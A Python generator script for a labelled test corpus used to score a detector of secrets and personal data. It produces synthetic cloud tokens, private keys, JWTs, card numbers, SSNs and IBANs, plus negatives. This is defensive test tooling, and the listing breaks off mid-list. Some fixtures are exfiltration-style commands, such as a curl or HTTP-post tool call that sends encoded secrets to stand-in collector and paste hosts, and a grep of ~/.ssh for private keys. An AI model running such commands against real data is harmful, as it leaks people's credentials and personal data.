#!/usr/bin/env python3
"""Generates the labelled inspection corpus (synthetic values only, fixed seed).

Each *.jsonl line: {"expect": [finding types], "text": "..."}; "expect": [] marks a negative.
Re-run from this directory: python3 generate.py
"""
import base64, hashlib, json, random, string, uuid

R = random.Random(20261123)
UP, LO, DI = string.ascii_uppercase, string.ascii_lowercase, string.digits
ALNUM = UP + LO + DI

def rnd(chars, n): return ''.join(R.choice(chars) for _ in range(n))
def b64url(b): return base64.urlsafe_b64encode(b).rstrip(b'=').decode()

out = {}
def add(file, expect, text): out.setdefault(file, []).append({"expect": expect, "text": text})

# ---------------------------------------------------------------- AWS
T = "secret.aws_access_key"
B32 = UP + "234567"
ctx = ['aws_access_key_id = {}', '{{"AccessKeyId": "{}", "Expiration": "2026-11-23T12:00:00Z"}}', 'export AWS_ACCESS_KEY_ID={}',
       'user,{},Active,2024-03-01', 'Rotated key {} for ci-deployer.', '[default]\naws_access_key_id={}\nregion=eu-west-1',
       '"credentials": {{"accessKeyId": "{}"}}', 'found {} in the build log', 'key={}&region=us-east-1', '| deploy | {} | active |']
for i, c in enumerate(ctx):
    add("aws", [T], c.format(R.choice(["AKIA", "ASIA", "AKIA", "ABIA"]) + rnd(B32, 16)))
add("aws", [T], "aws_access_key_id = AKIAIOSFODNN7EXAMPLE")
for c, v in [(ctx[0], "AKIA" + rnd(B32, 15)), (ctx[2], "AKIA" + rnd(B32, 17)), (ctx[4], "akia" + rnd(B32, 16).lower()),
             (ctx[7], "AKIA" + rnd(B32, 14) + "01"), (ctx[3], "AKIB" + rnd(B32, 16)), (ctx[8], "XAKIA" + rnd(B32, 16)),
             ('The prefix {} marks long-term keys.', "AKIA"), ('{{"arn": "arn:aws:iam::123456789012:user/{}"}}', "AKIA-deployer"),
             ('instance {} started', "i-0" + rnd("0123456789abcdef", 16)), ('{{"RoleId": "{}"}}', "AROA" + rnd(B32, 16) + "X")]:
    add("aws", [], c.format(v))

# ---------------------------------------------------------------- GitHub
T = "secret.github_token"
ctx = ['GITHUB_TOKEN={}', '{{"token": "{}", "expires_at": null}}', 'git clone https://x-access-token:{}@github.com/org/repo.git',
       'Authorization: token {}', 'gh auth login --with-token <<< {}', 'leaked: {}', '{{"access_token":"{}","token_type":"bearer"}}',
       'token = "{}"', 'use {} for the API', '- name: checkout\n  with:\n    token: {}']
for c in ctx:
    p = R.choice(["ghp_", "gho_", "ghu_", "ghs_", "ghr_"])
    add("github", [T], c.format(p + rnd(ALNUM, 36)))
for c in ctx[:3]:
    add("github", [T], c.format("github_pat_" + rnd(ALNUM, 22) + "_" + rnd(ALNUM, 59)))
# a near-miss assigned to GITHUB_TOKEN is still a random secret: the generic detector must catch it
add("github", ["secret.generic_high_entropy"], ctx[0].format("ghp_" + rnd(ALNUM, 35)))
add("github", ["secret.generic_high_entropy"], ctx[0].format("github_pat_" + rnd(ALNUM, 30)))
for c, v in [(ctx[5], "ghx_" + rnd(ALNUM, 36)), (ctx[8], "ghp_XXXXXXXX"),
             ('Classic tokens start with {} and are 40 characters long.', "ghp_"), (ctx[8], "myghp_" + rnd(ALNUM, 36)),
             (ctx[5], "ghp_" + rnd(ALNUM, 12) + "-" + rnd(ALNUM, 23)),
             ('commit {}', rnd("0123456789abcdef", 40)), ('{{"node_id": "{}"}}', "MDQ6VXNlcjU4MzIzMQ=="),
             ('see https://github.com/{}/issues/42', "ghp-tools/ghp_helper")]:
    add("github", [], c.format(v))

# ---------------------------------------------------------------- GitLab
T = "secret.gitlab_token"
ctx = ['GITLAB_TOKEN={}', '{{"token": "{}", "scopes": ["api"]}}', 'PRIVATE-TOKEN: {}', 'curl --header "PRIVATE-TOKEN: {}" https://gitlab.internal/api/v4/projects',
       'registration token {} for the runner', 'deploy with {}', 'found {}.', 'value: {}', '{{"trigger":"{}"}}', 'token {} expires soon']
for c in ctx:
    add("gitlab", [T], c.format(R.choice(["glpat-", "glpat-", "gldt-", "glrt-", "glptt-"]) + rnd(ALNUM + "_-", 20)))
add("gitlab", ["secret.generic_high_entropy"], ctx[0].format("glpat-" + rnd(ALNUM, 12)))
for c, v in [('Personal access tokens begin with {}.', "glpat-"), (ctx[5], "glpat-your-token"),
             (ctx[6], "gxpat-" + rnd(ALNUM, 20)), (ctx[9], "xglpat-" + rnd(ALNUM, 20)), ('branch {}', "glpat-rotation-docs"),
             ('{{"name": "{}"}}', "glrt-runner-eu"), ('package {}', "gl-token-helper"), (ctx[7], "glpat-" + rnd(ALNUM, 19)),
             ('see {} for details', "docs/glpat-tokens.md")]:
    add("gitlab", [], c.format(v))

# ---------------------------------------------------------------- Slack
T = "secret.slack_token"
def slack_bot(): return "xoxb-" + rnd(DI, 12) + "-" + rnd(DI, 13) + "-" + rnd(ALNUM, 24)
def slack_user(): return "xoxp-" + rnd(DI, 12) + "-" + rnd(DI, 12) + "-" + rnd(DI, 13) + "-" + rnd("0123456789abcdef", 32)
ctx = ['SLACK_BOT_TOKEN={}', '{{"ok": true, "access_token": "{}", "token_type": "bot"}}', 'Authorization: Bearer {}',
       'client = WebClient(token="{}")', 'token: {}', 'posted with {}', '{{"authed_user": {{"access_token": "{}"}}}}', 'slack {}']
for c in ctx:
    add("slack", [T], c.format(R.choice([slack_bot, slack_user])()))
for _ in range(3):
    add("slack", ["secret.slack_webhook"], R.choice(['SLACK_WEBHOOK_URL={}', '{{"webhook": "{}"}}', 'curl -X POST {}']).format(
        "https://hooks.slack.com/services/T" + rnd(UP + DI, 8) + "/B" + rnd(UP + DI, 10) + "/" + rnd(ALNUM, 24)))
for c, v in [(ctx[0], "xoxb-your-bot-token"), (ctx[4], "xoxb-"), ('Bot tokens start with {}.', "xoxb-"),
             (ctx[5], "xoxz-" + rnd(DI, 12) + "-" + rnd(DI, 13) + "-" + rnd(ALNUM, 24)), (ctx[7], "xoxb-" + rnd(DI, 4)),
             ('see {}', "https://hooks.slack.com/services/"), ('{{"channel": "{}"}}', "C0" + rnd(UP + DI, 9)),
             ('{{{{"team_id": "{}", "user": "{}"}}}}'.format("T0" + rnd(UP + DI, 8), "U0" + rnd(UP + DI, 8)), ""),
             ('docs: https://api.slack.com/authentication/token-types{}', ""), (ctx[4], "xoxb-token-for-the-staging-workspace")]:
    add("slack", [], c.format(v))

# ---------------------------------------------------------------- Stripe
T = "secret.stripe_key"
ctx = ['STRIPE_SECRET_KEY={}', 'stripe.api_key = "{}"', 'curl https://api.stripe.com/v1/charges -u {}:', '{{"secret": "{}"}}',
       'key {} rotated', 'Stripe::Client.new("{}")', 'const stripe = require("stripe")("{}");', 'STRIPE_WEBHOOK_SECRET={}']
for i, c in enumerate(ctx):
    v = ("whsec_" + rnd(ALNUM, 32)) if i == 7 else R.choice(["sk_live_", "sk_test_", "rk_live_", "rk_test_"]) + rnd(ALNUM, R.choice([24, 34, 99]))
    add("stripe", [T], c.format(v))
add("stripe", [T], "stripe.api_key = 'sk_test_4eC39HqLyjWDarjtT1zdp7dc'")
add("stripe", ["secret.generic_high_entropy"], ctx[0].format("pk_live_" + rnd(ALNUM, 24)))  # publishable, but assigned to a secret name
for c, v in [('publishableKey: "{}"', "pk_test_" + rnd(ALNUM, 24)), (ctx[4], "sk_test_" + rnd(ALNUM, 10)),
             ('Secret keys start with {} or sk_test_.', "sk_live_"), (ctx[4], "task_test_" + rnd(ALNUM, 24)),
             ('{{"id": "{}"}}', "ch_" + rnd(ALNUM, 24)), ('{{"customer": "{}"}}', "cus_" + rnd(ALNUM, 14)),
             ('{{"id": "{}", "object": "payment_intent"}}', "pi_" + rnd(ALNUM, 24)), (ctx[0], "sk_live_..."), (ctx[7], "whsec_" + rnd(ALNUM, 8))]:
    add("stripe", [], c.format(v))

# ---------------------------------------------------------------- private keys
T = "secret.private_key"
def pem(label, lines=6, sep="\n"):
    body = sep.join(base64.b64encode(bytes(R.randrange(256) for _ in range(48))).decode() for _ in range(lines))
    return "-----BEGIN " + label + "-----" + sep + body + sep + "-----END " + label + "-----"
for label in ["PRIVATE KEY", "RSA PRIVATE KEY", "EC PRIVATE KEY", "OPENSSH PRIVATE KEY", "ENCRYPTED PRIVATE KEY", "DSA PRIVATE KEY"]:
    add("private_key", [T], pem(label))
add("private_key", [T, "pii.email"], '{"private_key": "' + pem("PRIVATE KEY", sep="\\n") + '", "client_email": "svc@project-x.iam.gserviceaccount.com"}')
add("private_key", [T], 'key: |\n  ' + pem("RSA PRIVATE KEY").replace("\n", "\n  "))
add("private_key", [T], '{"key":"' + pem("EC PRIVATE KEY", 3, "\\n") + '"}')
add("private_key", [T], "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n" + pem("X", 5).split("\n", 1)[1].rsplit("\n", 1)[0] + "\n-----END PGP PRIVATE KEY BLOCK-----")
for text in [pem("PUBLIC KEY"), pem("CERTIFICATE"), pem("RSA PUBLIC KEY"), pem("CERTIFICATE REQUEST"),
             "Your key file should start with -----BEGIN PRIVATE KEY----- and end with -----END PRIVATE KEY-----.",
             "grep -l 'BEGIN RSA PRIVATE KEY' ~/.ssh/*", '{"publicKey": "' + pem("PUBLIC KEY", sep="\\n") + '"}',
             "-----BEGIN PRIVATE KEY-----\n(redacted)\n-----END PRIVATE KEY-----", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + rnd(ALNUM, 43) + " dev@laptop",
             "-----BEGIN X509 CRL-----\n" + base64.b64encode(bytes(48)).decode() * 2 + "\n-----END X509 CRL-----"]:
    add("private_key", [], text)

# ---------------------------------------------------------------- JWT
T = "secret.jwt"
def jwt(header=None, sig=True):
    h = header or {"alg": R.choice(["HS256", "RS256", "ES256"]), "typ": "JWT", "kid": rnd(ALNUM, 8)}
    p = {"sub": "agent-" + rnd(LO, 6), "iss": "https://gatehouse.internal", "iat": 1763900000 + R.randrange(10**6), "scope": "tools:read"}
    s = b64url(bytes(R.randrange(256) for _ in range(R.choice([32, 64])))) if sig else ""
    return b64url(json.dumps(h, separators=(",", ":")).encode()) + "." + b64url(json.dumps(p, separators=(",", ":")).encode()) + "." + s
ctx = ['Authorization: Bearer {}', '{{"id_token": "{}"}}', 'curl -H "Authorization: Bearer {}" https://api.internal/v1', 'JWT={}',
       'cookie: session={}; Path=/', '{{"assertion":"{}"}}', 'the token was {}', 'https://app.internal/callback#access_token={}&token_type=Bearer']
for c in ctx:
    add("jwt", [T], c.format(jwt()))
add("jwt", [T], "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c")
add("jwt", [T], 'unsecured: ' + jwt({"alg": "none"}, sig=False))
for text in ['header only: ' + b64url(b'{"alg":"HS256","typ":"JWT"}'), 'two parts: ' + jwt().rsplit(".", 1)[0],
             'no alg: ' + jwt({"typ": "JWT", "kid": "k1"}), '{"payload": "' + b64url(b'{"sub":"x","iat":1}') + '"}',
             'eyJ is what base64 of {" looks like', 'version eyJhbGci.eyJzdWIi.abc', '"data": "' + base64.b64encode(b'{"a":1,"b":[1,2,3]}').decode() + '"',
             'file.tar.gz.sig', 'a.b.c d.e.f', 'eyJ' + rnd(ALNUM, 30) + '.' + rnd(ALNUM, 30) + '.' + rnd(ALNUM, 30)]:
    add("jwt", [], text)

# ---------------------------------------------------------------- generic secrets
T = "secret.generic_high_entropy"
names = ['password', 'client_secret', 'api_key', 'apiKey', 'AUTH_TOKEN', 'access_token', 'secret', 'DB_PASSWORD', 'refresh_token',
         'x-api-key', 'SECRET_KEY', 'private_key', 'webhookSecret', 'sessionToken', 'signing_key', 'encryption_key']
shapes = ['{{"{n}": "{v}"}}', '{n}={v}', '{n}: {v}', '{n}: "{v}"', '?{n}={v}&page=2', '{{\\"{n}\\":\\"{v}\\"}}']
for n in names:
    v = rnd(ALNUM, R.choice([20, 32, 40])) if R.random() < 0.7 else rnd("0123456789abcdef", 32)
    add("generic", [T], R.choice(shapes).format(n=n, v=v))
add("generic", [T], "Authorization: Bearer " + rnd(ALNUM, 40))
add("generic", [T], 'DB_PASSWORD=Tr0ub4dor&3x')
add("generic", [T], '{"password": "p@ssW0rd!2024"}')
for text in ['{"password": "<your-password>"}', 'password: ${DB_PASSWORD}', 'api_key={{ secrets.API_KEY }}', '{"client_secret": "changeme"}',
             '{"token": "aaaaaaaaaaaaaaaaaaaaaaaa"}', '{"request_id": "' + rnd(ALNUM, 32) + '"}', '{"token_type": "Bearer", "expires_in": 3600}',
             '{"max_tokens": 4096}', '{"nextPageToken": "' + rnd(ALNUM, 40) + '"}', '{"password": ""}', '{"secret_name": "prod/db/password"}',
             'The password must be at least 12 characters.', '{"api_key": "********"}', '{"password": "correct horse battery staple"}',
             '{"sha": "' + rnd("0123456789abcdef", 40) + '"}', '{"password_hash": "$2b$12$' + rnd(ALNUM + "./", 53) + '"}',
             'password: "REDACTED"', '{"token": "your-token-here"}', '{"auth": {"type": "oauth2", "flow": "client_credentials"}}',
             '{"description": "' + rnd(ALNUM, 32) + '"}']:
    add("generic", [], text)

# ---------------------------------------------------------------- e-mail
T = "pii.email"
first = ["jane", "omar", "li", "priya", "lukas", "amara", "kenji", "sofia", "mateo", "chloe", "ivan", "fatima"]
last = ["doe", "haddad", "wei", "natarajan", "becker", "okafor", "sato", "rossi", "garcia", "martin", "petrov", "rahman"]
domains = ["northwind-mail.net", "contoso-corp.io", "fabrikam.co.uk", "tailspin-travel.de", "wingtip.org.au", "adventure-works.fr"]
ctx = ['{{"email": "{}"}}', 'Contact {} for access.', 'From: Jane <{}>', 'mailto:{}', '{},Active,Engineering', 'cc: {};',
       '"reporter": {{"emailAddress": "{}"}}', 'assigned to {}.', 'owner={}', '<a href="mailto:{}">write</a>', 'user {} logged in', '({})']
for c in ctx:
    add("email", [T], c.format(R.choice(first) + R.choice([".", "_", ""]) + R.choice(last) + R.choice(["", "+ops", "42"]) + "@" + R.choice(domains)))
for text in ['e.g. user@example.com', 'write to admin@example.org or help@sub.example.net', 'git clone git@github.com:org/repo.git',
             'mention @jane in the PR', 'npm install @modelcontextprotocol/sdk@1.22.0', 'icon@2x.png', 'lodash@4.17.21',
             'user at northwind-mail dot net', 'root@localhost', 'alice@server', 'bob@test.test', 'carol@corp.invalid',
             'meet @ 5pm', '"@context": "https://schema.org"', 'foo@bar.c', 'ssh deploy@10.0.0.12']:
    add("email", [], text)

# ---------------------------------------------------------------- phone
T = "pii.phone"
def nanp(): return R.choice("23456789") + rnd(DI, 2), "555", "01" + rnd(DI, 2)
phones = []
for _ in range(4):
    a, b, c = nanp(); phones.append("(%s) %s-%s" % (a, b, c))
for _ in range(3):
    a, b, c = nanp(); phones.append("%s-%s-%s" % (a, b, c))
a, b, c = nanp(); phones.append("%s.%s.%s" % (a, b, c))
a, b, c = nanp(); phones.append("+1 %s %s %s" % (a, b, c))
a, b, c = nanp(); phones.append("1-%s-%s-%s" % (a, b, c))
phones += ["+44 20 7946 0" + rnd(DI, 3), "+44 161 496 0" + rnd(DI, 3), "+49 30 " + rnd(DI, 8), "+33 1 23 45 67 " + rnd(DI, 2),
           "+61 2 5550 " + rnd(DI, 4), "+14155550" + rnd(DI, 3), "+81 3-1234-" + rnd(DI, 4)]
ctx = ['{{"phone": "{}"}}', 'Call {} for support.', 'mobile: {}', 'Tel. {}', '{},jane,home', 'reach me at {}.']
for p in phones:
    add("phone", [T], R.choice(ctx).format(p))
for text in ['released 2024-01-15', 'ip 192.168.100.200', 'id 4155550132', 'version 10.2.3', 'at 12:30:45', '{"amount": 1234567.89}',
             'order 2024-555-0134-77', 'ISBN 978-3-16-148410-0', '(123) 456-7890', 'temperature +21.5', 'ratio 3.141.59',
             '{"timestamp": 1763900000123}', 'range 100-200-300', 'offset +05:30', '{"zip": "94105-1234"}', 'PO 555-0134']:
    add("phone", [], text)

# ---------------------------------------------------------------- SSN
T = "pii.us_ssn"
def ssn():
    area = R.choice([x for x in range(1, 900) if x != 666]); group = R.randrange(1, 100); serial = R.randrange(1, 10000)
    return "%03d" % area, "%02d" % group, "%04d" % serial
ctx = ['{{"ssn": "{}"}}', 'SSN: {}', 'social security number {}', '{},Doe,Jane,1980-04-12', 'applicant {} verified', 'ssn={}']
for i in range(12):
    a, g, s = ssn()
    add("ssn", [T], R.choice(ctx).format("%s-%s-%s" % (a, g, s) if i % 4 else "%s %s %s" % (a, g, s)))
for _ in range(3):
    a, g, s = ssn()
    add("ssn", [T], R.choice(['{{"ssn": "{}"}}', 'SSN {}', 'social_security: {}']).format(a + g + s))
for text in ['000-12-3456', 'SSN 666-12-3456', 'ITIN 912-34-5678', '536-00-1234', '536-22-0000', 'order 536221234',
 'part 536-22-12345', 'date 2024-11-23', 'build 1-22-333', 'ref 5362-21-234', '{"id": 536221234}',
             'isbn 0-306-40615-2', 'route 12-34-5678']:
    add("ssn", [], text)

# ---------------------------------------------------------------- cards
T = "pii.payment_card"
def luhn_complete(prefix, length):
    digits = prefix + rnd(DI, length - len(prefix) - 1)
    for d in DI:
        cand = digits + d
        s = 0
        for i, ch in enumerate(reversed(cand)):
            v = int(ch)
            if i % 2: v *= 2; v -= 9 if v > 9 else 0
            s += v
        if s % 10 == 0: return cand
def group(n, sizes, sep):
    out, i = [], 0
    for s in sizes: out.append(n[i:i + s]); i += s
    return sep.join(out)
cards = [(luhn_complete("4", 16), [4, 4, 4, 4]), (luhn_complete("51", 16), [4, 4, 4, 4]), (luhn_complete("55", 16), [4, 4, 4, 4]),
         (luhn_complete("2223", 16), [4, 4, 4, 4]), (luhn_complete("37", 15), [4, 6, 5]), (luhn_complete("34", 15), [4, 6, 5]),
         (luhn_complete("6011", 16), [4, 4, 4, 4]), (luhn_complete("3530", 16), [4, 4, 4, 4]), (luhn_complete("4", 13), [4, 4, 5]),
         (luhn_complete("62", 19), [4, 4, 4, 4, 3]), ("4111111111111111", [4, 4, 4, 4]), ("5555555555554444", [4, 4, 4, 4]),
         ("378282246310005", [4, 6, 5]), ("6011111111111117", [4, 4, 4, 4])]
ctx = ['{{"card_number": "{}", "exp": "12/28"}}', 'Paid with {}.', 'card={}', 'PAN {} exp 09/27', '| 1042 | {} | approved |', '{{"pan":"{}"}}']
for i, (n, sizes) in enumerate(cards):
    shown = n if i % 3 == 0 else group(n, sizes, " " if i % 3 == 1 else "-")
    add("card", [T], R.choice(ctx).format(shown))
def break_luhn(n): return n[:-1] + str((int(n[-1]) + R.randrange(1, 10)) % 10)
for i, (n, sizes) in enumerate(cards[:10]):
    shown = break_luhn(n)
    add("card", [], R.choice(ctx).format(shown if i % 2 else group(shown, sizes, " ")))
for text in ['{"id": ' + luhn_complete("1", 16) + '}', 'ts 1763900000123', 'order ' + luhn_complete("9", 16), 'pi 3.1415926535897932',
             'account 4111-1111', '{"amount": 41111111.11}', 'tracking ' + luhn_complete("4", 20), 'uuid 550e8400-e29b-41d4-a716-446655440000',
             'card ending 1111']:
    add("card", [], text)
add("card", ["pii.phone"], 'phone +1 415 555 0132')

# ---------------------------------------------------------------- IBAN
T = "pii.iban"
def mod97(s):
    r = 0
    for ch in s: r = (r * (100 if ch.isalpha() else 10) + (ord(ch) - 55 if ch.isalpha() else int(ch))) % 97
    return r
def iban(cc, bban):
    check = 98 - mod97(bban + cc + "00")
    return cc + "%02d" % check + bban
ibans = [iban("DE", rnd(DI, 18)), iban("GB", rnd(UP, 4) + rnd(DI, 14)), iban("FR", rnd(DI, 23)), iban("NL", rnd(UP, 4) + rnd(DI, 10)),
         iban("ES", rnd(DI, 20)), iban("IT", R.choice(UP) + rnd(DI, 22)), iban("CH", rnd(DI, 17)), iban("BE", rnd(DI, 12)),
         iban("AT", rnd(DI, 16)), iban("PL", rnd(DI, 24)), "DE89370400440532013000", "GB82WEST12345698765432"]
ctx = ['{{"iban": "{}"}}', 'IBAN: {}', 'Please transfer to {}.', 'account={}', 'Beneficiary {} (BIC DEUTDEFF)']
for i, v in enumerate(ibans):
    shown = v if i % 2 else " ".join(v[k:k + 4] for k in range(0, len(v), 4))
    add("iban", [T], R.choice(ctx).format(shown))
def flip(v):
    k = R.randrange(4, len(v))
    while not v[k].isdigit(): k = R.randrange(4, len(v))
    return v[:k] + str((int(v[k]) + R.randrange(1, 10)) % 10) + v[k + 1:]
for v in ibans[:8]:
    add("iban", [], R.choice(ctx).format(flip(v)))
for text in ['IBAN ' + ibans[0][:-1], 'IBAN ' + ibans[2] + '7', 'IBAN XX' + ibans[0][2:], 'ref DE' + rnd(DI, 8), 'SKU AB12CDEF345678',
             'iso code DE, FR and GB', '{"swift": "DEUTDEFF500"}', 'model GB82-WEST-1234']:
    add("iban", [], text)

# ---------------------------------------------------------------- realistic mixed tool results (clean and not)
clean = [
    '{"jsonrpc":"2.0","id":7,"result":{"content":[{"type":"text","text":"Found 3 open issues in org/repo: #41 Fix flaky test (opened 2026-11-02), #42 Bump jackson to 2.20.1, #43 Docs typo."}],"isError":false}}',
    '{"id":1928374650,"node_id":"I_kwDOAbCdEf5xYz12","number":42,"title":"Bump jackson","state":"open","created_at":"2026-11-20T09:14:03Z","comments":3,"html_url":"https://github.com/org/repo/issues/42","sha":"' + rnd("0123456789abcdef", 40) + '"}',
    '{"rows":[{"region":"eu-west-1","requests":182734,"p99_ms":41.7,"error_rate":0.0031},{"region":"us-east-1","requests":993812,"p99_ms":38.2,"error_rate":0.0012}],"generated":"2026-11-23T11:00:00Z"}',
    '2026-11-23T10:15:02.331Z INFO  [http-nio-8080-exec-4] c.e.OrderService - order 88213 shipped in 2.4 s (items=3, weight=1.25kg)',
    '{"weather":{"city":"Berlin","temp_c":4.5,"humidity":81,"wind":{"speed_kmh":17,"dir":"WSW"}},"forecast":[3,5,6,2]}',
    'SELECT id, name, created_at FROM projects WHERE owner_id = 4812 AND status = \'active\' ORDER BY created_at DESC LIMIT 50;',
    '{"tool":"search","query":"quarterly revenue 2025","results":[{"title":"Q3 report","url":"https://intranet.northwind.internal/reports/q3-2025.pdf","score":0.92}]}',
    'diff --git a/src/main.py b/src/main.py\nindex 3f2a1b9..8c4d7e0 100644\n--- a/src/main.py\n+++ b/src/main.py\n@@ -12,7 +12,7 @@ def main():\n-    retries = 3\n+    retries = 5',
    '{"uuid":"550e8400-e29b-41d4-a716-446655440000","version":"3.14.159","build":20261123,"checksum":"sha256:' + rnd("0123456789abcdef", 64) + '"}',
    '{"name":"gatehouse","dependencies":{"jackson-databind":"2.20.1","picocli":"4.7.7"},"scripts":{"test":"mvn -q test"}}',
]
clean += [  # source code: assignments to key-like names are not secrets
    'String token = Broker.body(first).path("access_token").asText();\nString newSecret = Broker.JSON.readTree(rotated).path("secret").asText();',
    'def refresh(self):\n    token = self.session.fetch_token(token_url=self.token_url, client_secret=self.client_secret)\n    return token',
    'const apiKey = process.env.OPENAI_API_KEY;\nconst password = await vault.read(`db/${env}/password`);',
    'Files.writeString(config, "server: " + gh.baseUri() + "\\ntoken: " + TestGatehouse.ADMIN_TOKEN + "\\n");',
]
for t in clean:
    add("mixed", [], t)
add("mixed", ["pii.email", "pii.payment_card"], '{"customer":{"name":"Amara Okafor","email":"amara.okafor@northwind-mail.net"},"payment":{"card":"' + group(cards[0][0], [4, 4, 4, 4], " ") + '","amount":129.90}}')
add("mixed", ["secret.aws_access_key", "secret.generic_high_entropy"], '[default]\naws_access_key_id = AKIA' + rnd(B32, 16) + '\naws_secret_access_key = ' + rnd(ALNUM + "/+", 40) + '\n')
add("mixed", ["pii.phone", "pii.iban", "pii.email"], '{"content":[{"type":"text","text":"Supplier: Fabrikam GmbH\\nPhone: +49 30 ' + rnd(DI, 8) + '\\nIBAN: ' + ibans[0] + '\\nContact: buchhaltung@fabrikam.co.uk"}]}')
add("mixed", ["secret.jwt", "secret.github_token"], '{"env":{"GH_TOKEN":"ghp_' + rnd(ALNUM, 36) + '","ID_TOKEN":"' + jwt() + '"}}')
add("mixed", ["secret.private_key", "pii.email"], '{"type":"service_account","client_email":"deployer@project-x.iam.gserviceaccount.com","private_key":"' + pem("PRIVATE KEY", 4, "\\n") + '"}')

add("ssn", ["pii.phone"], 'call 415-555-0132')
# known limitations, kept so the scores stay honest: a national number without its country code,
# a password too short to tell from a word
add("phone", ["pii.phone"], 'Tel. 020 7946 0958')
add("generic", ["secret.generic_high_entropy"], 'password=hunter2')

# values right after a JSON escape (text content of a tool result, JSON inside JSON)
add("mixed", ["pii.payment_card"], '{"content":[{"type":"text","text":"Cards on file:\\n' + cards[1][0] + '\\n' + group(cards[2][0], [4, 4, 4, 4], " ") + '"}]}')
add("mixed", ["secret.aws_access_key", "pii.iban"], '{"content":[{"type":"text","text":"keys:\\tAKIA' + rnd(B32, 16) + '\\nIBAN\\t' + ibans[3] + '"}]}')
add("mixed", ["pii.phone", "pii.email"], '{"content":[{"type":"text","text":"{\\"contact\\":\\"' + phones[0] + '\\",\\"mail\\":\\"kenji.sato@tailspin-travel.de\\"}"}]}')

# ---------------------------------------------------------------- encoded forms (base64, hex, percent, nested)
# Drawn after everything above so the other files stay as they were.
def b64(v): return base64.b64encode(v.encode()).decode()
def b64u(v): return base64.urlsafe_b64encode(v.encode()).rstrip(b'=').decode()
def hexe(v): return v.encode().hex()
def pct(v): return ''.join('%%%02X' % b for b in v.encode())
def xesc(v): return ''.join('\\x%02x' % b for b in v.encode())  # printf-style \x41 escapes
def wrap(e, width=76): return '\\n'.join(e[i:i + width] for i in range(0, len(e), width))  # lines, JSON-escaped
ENC = [("b64", b64), ("b64u", b64u), ("hex", hexe), ("HEX", lambda v: hexe(v).upper()), ("pct", pct), ("xesc", xesc),
       ("pct(b64)", lambda v: ''.join('%%%02X' % ord(c) for c in b64(v))), ("b64(b64)", lambda v: b64(b64(v)))]
CTX = ['{{"name":"http_post","arguments":{{"url":"https://paste.example.net/new","body":"{}"}}}}',
       'curl -s "https://collector.example.net/c?d={}"', '{{"content":[{{"type":"text","text":"{}"}}]}}',
       'GET /api/v1/upload/{} HTTP/1.1', '{{"data":{{"value":"{}"}},"kind":"Secret"}}', 'echo {} | base64 -d > out']
first_card = luhn_complete("4", 16)
encoded_values = [
    ("pii.payment_card", [group(first_card, [4, 4, 4, 4], " "), luhn_complete("51", 16), "card " + luhn_complete("37", 15),
                          group(luhn_complete("6011", 16), [4, 4, 4, 4], "-")]),
    ("secret.aws_access_key", ["AKIA" + rnd(B32, 16), "ASIA" + rnd(B32, 16), "aws_access_key_id = AKIA" + rnd(B32, 16)]),
    ("secret.github_token", ["ghp_" + rnd(ALNUM, 36), "gho_" + rnd(ALNUM, 36), "github_pat_" + rnd(ALNUM, 22) + "_" + rnd(ALNUM, 59)]),
    ("secret.gitlab_token", ["glpat-" + rnd(ALNUM, 20), "glrt-" + rnd(ALNUM, 24), "token glpat-" + rnd(ALNUM, 20)]),
    ("secret.slack_token", [slack_bot(), slack_user(), slack_bot()]),
    ("secret.stripe_key", ["sk_live_" + rnd(ALNUM, 24), "rk_test_" + rnd(ALNUM, 34), "whsec_" + rnd(ALNUM, 32)]),
    ("secret.private_key", [pem("RSA PRIVATE KEY"), pem("EC PRIVATE KEY", 3), pem("PRIVATE KEY", 4)]),
    ("secret.jwt", [jwt(), jwt(), jwt()]),
    ("secret.generic_high_entropy", ["DB_PASSWORD=" + rnd(ALNUM, 20) + "\n", '{"client_secret": "' + rnd(ALNUM, 32) + '"}',
                                     "api_key: " + rnd(ALNUM, 24)]),
    ("pii.us_ssn", ["%s-%s-%s" % ssn(), "SSN %s %s %s" % ssn(), "%s-%s-%s" % ssn()]),
    ("pii.iban", [iban("DE", rnd(DI, 18)), iban("FR", rnd(DI, 23)), "IBAN " + iban("NL", rnd(UP, 4) + rnd(DI, 10))]),
    ("pii.email", ["amara.okafor@northwind-mail.net", R.choice(first) + "." + R.choice(last) + "@" + R.choice(domains), "mailto:ivan.petrov@fabrikam.co.uk"]),
    ("pii.phone", ["+44 20 7946 0" + rnd(DI, 3), "+49 30 " + rnd(DI, 8), "+1 415 555 0" + rnd(DI, 3)]),
]
k = 0
for t, values in encoded_values:
    for v in values:
        for _ in range(2):
            name, enc = ENC[k % len(ENC)]
            add("encoded", [t], CTX[k % len(CTX)].format(enc(v)))
            k += 1
# wrapped at 76 columns, the value across a line break: `base64 .env` in a shell tool's output
env = "# prod\nAPP_ENV=production\nAWS_ACCESS_KEY_ID=AKIA" + rnd(B32, 16) + "\nLOG_LEVEL=info\n"
add("encoded", ["secret.aws_access_key"], '{"content":[{"type":"text","text":"' + wrap(b64(env)) + '"}]}')
add("encoded", ["pii.payment_card"], '{"stdout":"' + wrap(b64("id,name,card\n" + "".join("%d,Customer %d,n/a\n" % (i, i) for i in range(1, 4)) + "4,Amara Okafor," + first_card + "\n")) + '"}')
# a Kubernetes secret: base64 of a kubeconfig that holds a base64 private key
add("encoded", ["secret.private_key"], '{"kind":"Secret","data":{"config":"' + b64("users:\n- name: ci\n  user:\n    client-key-data: " + b64(pem("RSA PRIVATE KEY")) + "\n") + '"}}')
# a JWT carrying an e-mail address is one JWT, as in plain text
add("encoded", ["secret.jwt"], 'Authorization: Bearer ' + b64url(json.dumps({"alg": "RS256", "typ": "JWT"}, separators=(",", ":")).encode()) + "."
    + b64url(json.dumps({"sub": "u1", "email": "jane.doe@northwind-mail.net"}, separators=(",", ":")).encode()) + "." + b64url(bytes(R.randrange(256) for _ in range(32))))
# negatives: encoded material without findings, and encoded near-misses
def rbytes(n): return bytes(R.randrange(256) for _ in range(n))
negatives = [
    '{"type":"image","mimeType":"image/png","data":"' + base64.b64encode(b"\x89PNG\r\n\x1a\n" + rbytes(600)).decode() + '"}',
    '{"type":"image","mimeType":"image/jpeg","data":"' + base64.b64encode(b"\xff\xd8\xff\xe0" + rbytes(900)).decode() + '"}',
